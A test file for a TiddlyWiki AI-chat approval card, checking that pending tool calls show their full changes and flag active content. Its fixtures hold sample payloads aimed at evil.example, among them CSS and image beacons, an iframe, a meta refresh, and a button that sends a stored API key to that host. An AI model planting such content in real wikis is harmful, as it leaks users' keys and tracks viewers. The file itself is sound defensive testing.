// The approval card shows exactly what a call would land (title, type, tags, every field, the
// text) and flags active content, in the <$ai-chat> widget of a real TiddlyWiki (fake DOM). It
// says a call once (a preview, else the changes; the exact arguments folded) and counts a diff's
// differences in words that agree with the number (TiddlyWiki's own says "1 differences").
import { bootWiki, type TW } from '../helpers/tw';

let $tw: TW;
const CHAT = 'Card chat';
const SELF_CHAT = 'Self card chat';
const PREVIEW_CHAT = 'Preview chat';
const DIFF_CHAT = 'Diff chat';
const LOADS_CHAT = 'Loads chat';
/** A note with everything that loads an address, frames a page or reads a stored key, each with the flag the card must show. */
const LOADS: [string, string][] = [
  ['<div style="background:url(https://evil.example/a.png)">A</div>', 'a style loads https://evil.example/a.png when shown (CSS url())'],
  ['@@background:url(https://evil.example/b.png) B@@', 'a style loads https://evil.example/b.png when shown (CSS url())'],
  ['<span style.background-image="url(https://evil.example/c.png)">C</span>', 'a style loads https://evil.example/c.png when shown (CSS url())'],
  ['<style>p { background: url(https://evil.example/d.png) }</style>', '<style> restyles the whole page and can load addresses'],
  ['<img srcset="https://evil.example/e.png 2x">', 'loads https://evil.example/e.png when shown (srcset)'],
  ['![cat](https://evil.example/f.png)', 'external image https://evil.example/f.png (Markdown)'],
  ['![dog][g]\n\n[g]: https://evil.example/g.png', 'external image https://evil.example/g.png (Markdown)'],
  ['<link rel="stylesheet" href="https://evil.example/h.css">', '<link> loads a style sheet or another file from an address'],
  ['<iframe src="https://evil.example/i"></iframe>', '<iframe> shows another page inside this one'],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', '<meta http-equiv> can reload the page or send it to another address'],
  ['<base href="https://evil.example/">', '<base> changes where every relative link and image of the page points'],
  ['<svg><image href="https://evil.example/j.svg"/></svg>', 'loads https://evil.example/j.svg when shown (href)'],
  ['<svg><use href="https://evil.example/k.svg#x"/></svg>', 'loads https://evil.example/k.svg#x when shown (href)'],
  ['<video poster="https://evil.example/l.png"></video>', 'loads https://evil.example/l.png when shown (poster)'],
  ['<$password name="openai-api-key"/>', '<$password> shows a password or key saved in this browser to whoever views the note'],
  ['<$button><$action-sendmessage $message="tm-http-request" url="https://evil.example/" password-header-Authorization="openai-api-key"/>Go</$button>', 'sends HTTP requests (tm-http-request), which can carry a password or key saved in this browser'],
];
const LOADS_TEXT = LOADS.map(([text]) => text).join('\n\n');
const SELF_BEFORE = { title: 'Self agent', tags: '$:/tags/AI/Agent', 'agent-provider': 'P', 'agent-tools': 'edit-agent-definition', text: 'You are casual.', modified: '20260101000000000' };
const AFTER = {
  title: 'Helper',
  text: 'Click <$button actions="<$action-sendmessage $message=tm-http-request/>">here</$button> [img[https://evil.example/x.png]]',
  type: 'text/vnd.tiddlywiki',
  tags: 'Notes [[Garden work]]',
  caption: 'A friendly helper',
  created: '20260101000000000',
  modified: '20260101000000000',
};

beforeAll(async () => {
  $tw = await bootWiki([
    { title: CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${CHAT}/000000`, 'agent-chat': CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Make a helper' },
    {
      title: `$:/ai/messages/${CHAT}/000001`,
      'agent-chat': CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'wiki-create',
      'tool-call-id': 'c1',
      'tool-args': JSON.stringify({ title: 'Helper', text: AFTER.text }),
      'tool-status': 'pending',
      'tool-changes': JSON.stringify({ Helper: { before: null, after: AFTER } }),
      text: 'Create "Helper"',
    },
    { title: SELF_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${SELF_CHAT}/000000`, 'agent-chat': SELF_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Be formal' },
    {
      title: `$:/ai/messages/${SELF_CHAT}/000001`,
      'agent-chat': SELF_CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'edit-agent-definition',
      'tool-call-id': 'e1',
      'tool-args': JSON.stringify({ prompt: 'You are formal.' }),
      'tool-status': 'pending',
      'approval-choices': 'once deny',
      'tool-changes': JSON.stringify({ 'Self agent': { before: SELF_BEFORE, after: { ...SELF_BEFORE, text: 'You are formal.', modified: '20260102000000000' } } }),
      text: 'Change the system prompt of this agent.',
    },
    { title: PREVIEW_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${PREVIEW_CHAT}/000000`, 'agent-chat': PREVIEW_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Fetch it' },
    {
      title: `$:/ai/messages/${PREVIEW_CHAT}/000001`,
      'agent-chat': PREVIEW_CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'web-fetch',
      'tool-call-id': 'c1',
      'tool-args': JSON.stringify({ url: 'https://example.com/page', maxChars: 5000 }),
      'tool-status': 'pending',
      text: 'Fetch https://example.com/page',
    },
    { title: LOADS_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${LOADS_CHAT}/000000`, 'agent-chat': LOADS_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Decorate it' },
    {
      title: `$:/ai/messages/${LOADS_CHAT}/000001`,
      'agent-chat': LOADS_CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'wiki-create',
      'tool-call-id': 'c3',
      'tool-args': JSON.stringify({ title: 'Decorated', text: LOADS_TEXT }),
      'tool-status': 'pending',
      'tool-changes': JSON.stringify({ Decorated: { before: null, after: { title: 'Decorated', text: LOADS_TEXT } } }),
      text: 'Create "Decorated"',
    },
    { title: DIFF_CHAT, agent: '$:/demo/agents/offline-demo', 'agent-status': 'input-required' },
    { title: `$:/ai/messages/${DIFF_CHAT}/000000`, 'agent-chat': DIFF_CHAT, 'agent-seq': '0', role: 'user', type: 'text/plain', text: 'Tag it' },
    {
      title: `$:/ai/messages/${DIFF_CHAT}/000001`,
      'agent-chat': DIFF_CHAT,
      'agent-seq': '1',
      role: 'tool',
      'tool-name': 'wiki-update',
      'tool-call-id': 'c2',
      'tool-args': JSON.stringify({ title: 'Note', tags: ['Done'] }),
      'tool-status': 'pending',
      'tool-changes': JSON.stringify({ Note: { before: { title: 'Note', tags: 'Draft', caption: 'Old' }, after: { title: 'Note', tags: 'Done', caption: 'Old and new' } } }),
      text: 'Update "Note"',
    },
  ]);
});

function render(chat = CHAT) {
  const parser = $tw.wiki.parseText('text/vnd.tiddlywiki', `<$ai-chat chat="${chat}"/>`);
  const widget = $tw.wiki.makeWidget(parser, { document: $tw.fakeDocument });
  const container = $tw.fakeDocument.createElement('div');
  widget.render(container, null);
  return container;
}

function find(node: any, className: string): any[] {
  const out: any[] = [];
  const walk = (n: any) => {
    if (String(n.attributes?.class ?? n.className ?? '').split(' ').includes(className)) out.push(n);
    for (const c of n.children ?? []) walk(c);
  };
  walk(node);
  return out;
}

test('the card shows the title, type, tags, every field and the text of what would land', () => {
  const container = render();
  const [card] = find(container, 'tc-ai-approval');
  expect(card).toBeDefined();
  const changes = find(card, 'tc-ai-approval-changes')[0];
  const text = changes.textContent as string;
  expect(find(changes, 'tc-ai-diff-title')[0].textContent).toContain('Helper');
  for (const value of ['type', 'text/vnd.tiddlywiki', 'tags', 'Notes [[Garden work]]', 'caption', 'A friendly helper', 'created', 'modified']) expect(text).toContain(value);
  expect(find(changes, 'tc-ai-diff-text')[0].textContent).toContain('[img[https://evil.example/x.png]]');
});

test('the card flags the active content of the result: the button widget and the external image', () => {
  const container = render();
  const flags = find(find(container, 'tc-ai-approval')[0], 'tc-ai-active-content')[0].textContent as string;
  expect(flags).toContain('<$button>');
  expect(flags).toContain('<$action-sendmessage>');
  expect(flags).toContain('can run actions when clicked');
  expect(flags).toContain('external image https://evil.example/x.png');
});

test('the card flags, in words, everything that loads an address, frames a page or reads a stored key (issue 23)', () => {
  const [card] = find(render(LOADS_CHAT), 'tc-ai-approval');
  const flags = find(card, 'tc-ai-active-content')[0].children[1].children.map((li: any) => li.textContent as string);
  for (const [text, flag] of LOADS) expect([text, flags]).toEqual([text, expect.arrayContaining([flag])]);
});

test('a confirm-only call (edit-agent-definition): the card shows the definition\'s diff and offers only "once" and "deny"', () => {
  const [card] = find(render(SELF_CHAT), 'tc-ai-approval');
  const changes = find(card, 'tc-ai-approval-changes')[0];
  expect(find(changes, 'tc-ai-diff-title')[0].textContent).toContain('Self agent');
  const text = find(changes, 'tc-ai-diff-text')[0].textContent as string;
  expect(text).toContain('casual');
  expect(text).toContain('formal');
  expect(changes.textContent).toContain('agent-tools');
  const buttons = find(card, 'tc-ai-card-buttons')[0].children.map((b: any) => b.attributes?.['data-ai-action']);
  expect(buttons).toEqual(['approve-once', 'approve-deny']);
  const [other] = find(render(), 'tc-ai-approval');
  expect(find(other, 'tc-ai-card-buttons')[0].children).toHaveLength(4);
});

test('a call without planned changes shows its preview once, the exact arguments folded', () => {
  const [card] = find(render(PREVIEW_CHAT), 'tc-ai-approval');
  expect(find(card, 'tc-ai-approval-preview').map((n) => n.textContent)).toEqual(['Fetch https://example.com/page']);
  const args = find(card, 'tc-ai-tool-args');
  expect(args).toHaveLength(1);
  expect(args[0].parentNode.tag ?? args[0].parentNode.tagName).toMatch(/^details$/i);
  expect(args[0].textContent).toContain('"maxChars": 5000');
});

test('the diff counts its differences in words that agree with the number, in the wiki language', () => {
  const counts = (): string[] => find(render(DIFF_CHAT), 'tc-ai-diff-count').map((n) => n.textContent as string);
  const english = counts();
  expect(english.length).toBe(2);
  // The card shows what changes, once: no preview besides the diff.
  expect(find(render(DIFF_CHAT), 'tc-ai-approval-preview')).toHaveLength(0);
  for (const c of english) expect(c).toBe(parseInt(c, 10) === 1 ? '1 difference' : `${parseInt(c, 10)} differences`);
  $tw.wiki.addTiddler({ title: '$:/language', text: '$:/languages/zh-Hans' });
  try {
    for (const c of counts()) expect(c).toMatch(/^\d+ 处差异$/);
  } finally {
    $tw.wiki.deleteTiddler('$:/language');
  }
});
